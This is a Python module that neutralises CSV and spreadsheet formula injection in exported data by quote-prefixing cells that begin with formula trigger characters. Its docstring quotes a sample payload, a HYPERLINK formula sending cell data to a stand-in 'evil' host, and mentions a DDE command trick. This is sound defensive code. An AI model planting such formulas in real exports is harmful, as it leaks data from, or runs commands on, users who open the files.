"""Values leaving recon for Excel or CSV must not run as formulas there (CSV/formula injection).

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return may be taken for a formula by
Excel, LibreOffice or Google Sheets, e.g. an article number `=HYPERLINK("http://evil/?"&A1)` in an OTTO
file (`+cmd|...` once ran DDE commands). Following the OWASP guidance on CSV injection, such text gets a
leading apostrophe in CSV; in a workbook it is a string cell with the "quote prefix" style, which is what
Excel itself does for a typed apostrophe. Numbers are not touched: a real number is written as a number, and
text that is nothing but a signed number (`-12,30`, `-12.30`) cannot run anything, so it stays as it is.
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)*")
# Characters an XLSX file cannot hold at all (XML 1.0 forbids them); openpyxl would refuse the whole file.
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def needs_quote_prefix(text: str) -> bool:
    """True when a spreadsheet could read this text as a formula."""
    return text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text)


def inert_cell_text(value: str) -> str:
    """The text as a spreadsheet shows it, never as a formula it would run (the CSV form)."""
    return "'" + value if needs_quote_prefix(value) else value


def inert_cell(value: object) -> object:
    """For writers of mixed cells: text is made inert, everything else (numbers, dates, None) passes as is."""
    return inert_cell_text(value) if isinstance(value, str) else value


def xlsx_safe_text(text: str) -> str:
    """The text without characters XML cannot carry (each replaced by U+FFFD, so the loss is visible)."""
    return _ILLEGAL_XML.sub("\ufffd", text)
